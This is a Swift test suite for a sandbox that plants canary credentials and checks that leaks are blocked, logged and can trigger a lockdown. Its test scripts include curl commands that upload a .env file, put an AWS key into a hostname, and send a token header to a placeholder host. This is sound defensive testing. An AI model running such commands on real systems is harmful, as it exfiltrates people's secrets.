import Foundation
import Glibc
import Testing

/// Canaries of jails that run: planted where they may be, seen where they must not be.
@Suite(.needs("curl", "zstd", "tar")) struct CanaryTests {
    private static func profile(_ actions: String) -> String {
        Profiles.session(
            """
            network: { allow: [{ hosts: ['example.org', '*.example.org'], methods: ['POST'], schemes: ['http'] }] },
            filesystem: { home: '1M', tmp: '1M' },
            canaries: [{ kind: 'env' }, { kind: 'aws', path: '/srv/keys' }, { kind: 'github', env: 'HUB_TOKEN' }],
            alerts: { defaults: true, rules: [{ name: 'canary', watch: 'canary', severity: 'critical', actions: [\(actions)] }] }
            """)
    }

    /// As it stands on the disk.
    private func log(_ jail: Jail) throws -> String {
        let directory = AuditLogFiles(jail: jail).directory
        return try FileManager.default.contentsOfDirectory(atPath: directory).sorted().map {
            try String(contentsOfFile: "\(directory)/\($0)", encoding: .utf8)
        }.joined()
    }

    private static let ask = "curl -s -o /dev/null -m 5 -w '%{http_code}\\n'"

    /// Nobody listens there and nobody is asked for the name: what has a canary in it is denied before that.
    @Test(arguments: Caller.all)
    func `what is sent, looked up or printed with one in it is told of, and never what it says`(
        caller: Caller
    ) throws {
        let jail = try Jail(caller, Self.profile(""))
        let finished = try jail.script(
            """
            ls -l ~/.env.production /srv/keys | cut -c1-10
            key=$(sed -n 's/aws_access_key_id = //p' /srv/keys)
            \(Self.ask) --data-binary @$HOME/.env.production http://example.org/a
            \(Self.ask) --noproxy '*' -d x "http://$key.example.org/"
            \(Self.ask) -d x -H "Authorization: token $HUB_TOKEN" http://example.org/b
            echo "token: $HUB_TOKEN" >&2
            """)
        // A name with one in it does not exist.
        #expect(finished.status == 0 && finished.lines == ["-r--------", "-r--------", "403", "000", "403"])
        #expect(finished.errors.contains("the canary 'env-"), "\(finished.errors)")
        for place in [
            "what was sent to example.org:80", "a name that was asked for, below example.org",
            "a request to example.org:80",
            "what the command wrote to standard error",
        ] { #expect(finished.errors.contains("was seen in \(place)"), "\(place): \(finished.errors)") }
        #expect(finished.errors.contains("alert, critical: canary: a canary is seen: env-"))
        let log = try log(jail)
        #expect(log.components(separatedBy: "\"canary\"").count > 4, "\(log)")
        for place in ["upload", "name", "request", "log"] { #expect(log.contains("\"place\":\"\(place)\"")) }
        // What it printed itself is the caller's to see; the log has nothing of it.
        #expect(!log.contains("ghp_") && !log.contains("sk_live_") && !log.lowercased().contains("akia"))
        try jail.expectNothingLeft()
    }

    @Test(arguments: Caller.all) func `by profile one that is seen locks the jail down, with evidence, for good`(
        caller: Caller
    ) throws {
        let jail = try Jail(caller, Self.profile("'lockdown'"))
        defer { _ = try? jail.start(words: ["unlock", jail.name, "--reason", "a test"]).wait(20) }
        let finished = try jail.script(
            "\(Self.ask) -d \"x=$HUB_TOKEN\" http://example.org/; while :; do echo on >/tmp/on; sleep 0.05; done",
            seconds: 60)
        #expect(finished.status == 78, "\(finished.errors)")
        #expect(finished.errors.contains("locked down: alert: canary: a canary is seen"), "\(finished.errors)")
        let evidence = try FileManager.default.contentsOfDirectory(atPath: "\(jail.stateDirectory)/evidence")
        #expect(evidence.contains { $0.hasPrefix("\(jail.name)-") && $0.hasSuffix(".tar.zst") }, "\(finished.errors)")
        let log = try log(jail)
        #expect(log.contains("\"step\":\"begun\"") && log.contains("\"step\":\"sealed\""))
        #expect(try jail.script("echo again").status == 78)
        #expect(try jail.start(words: ["unlock", jail.name, "--reason", "a test"]).wait(20).status == 0)
        #expect(try jail.script("echo again").text == "again\n")
        try jail.expectNothingLeft()
    }

    @Test func `what is planted is listed by id while the jail runs`() throws {
        let jail = try Jail(.user, Self.profile(""))
        let running = try jail.startAndAwait("up", command: ["/bin/sh", "-c", "echo up; exec sleep 60"])
        let listed = try jail.start(words: ["secret", "canary", "list", jail.name]).wait(20)
        #expect(listed.status == 0, "\(listed.errors)")
        #expect(listed.lines.count == 4 && listed.text.contains("/home/claw/.env.production"), "\(listed.text)")
        #expect(listed.text.contains("HUB_TOKEN") && !listed.text.contains("ghp_"))
        running.signal(SIGTERM)
        try running.wait()
    }

    @Test func `one in a workspace is known to the jail that sends it`() throws {
        let jail = try Jail(.user, Self.profile(""))
        let workspace = try Scratch.directory("workspace", mode: 0o700)
        func canary(_ words: String...) throws -> Finished {
            try jail.start(words: ["secret", "canary"] + words).wait(20)
        }
        let planted = try canary("plant", "slack", "--in", workspace, "--path", "conf/slack.json")
        #expect(planted.status == 0 && planted.text.hasPrefix("planted: slack-"), "\(planted.errors)")
        // Over nothing, and nowhere else.
        for words in [["--path", "conf/slack.json"], ["--path", "../x"], ["--path", "/x"], ["--path", "a//b"]] {
            let refused = try jail.start(words: ["secret", "canary", "plant", "slack", "--in", workspace] + words).wait(
                20)
            #expect(refused.status != 0 && refused.text.isEmpty, "\(words)")
        }
        let listed = try canary("list")
        #expect(listed.lines.count == 2 && listed.text.contains("\(workspace)/conf/slack.json"), "\(listed.text)")
        let finished = try jail.script(
            "\(Self.ask) --data-binary @/workspace/conf/slack.json http://example.org/", ["--workspace", workspace])
        #expect(finished.lines == ["403"], "\(finished.errors)")
        #expect(finished.errors.contains("the canary 'slack-"), "\(finished.errors)")
        let id = String(planted.lines[0].split(separator: " ")[1])
        #expect(try canary("remove", id).status == 0)
        #expect(try canary("list").text == "there are no canaries\n")
    }
}
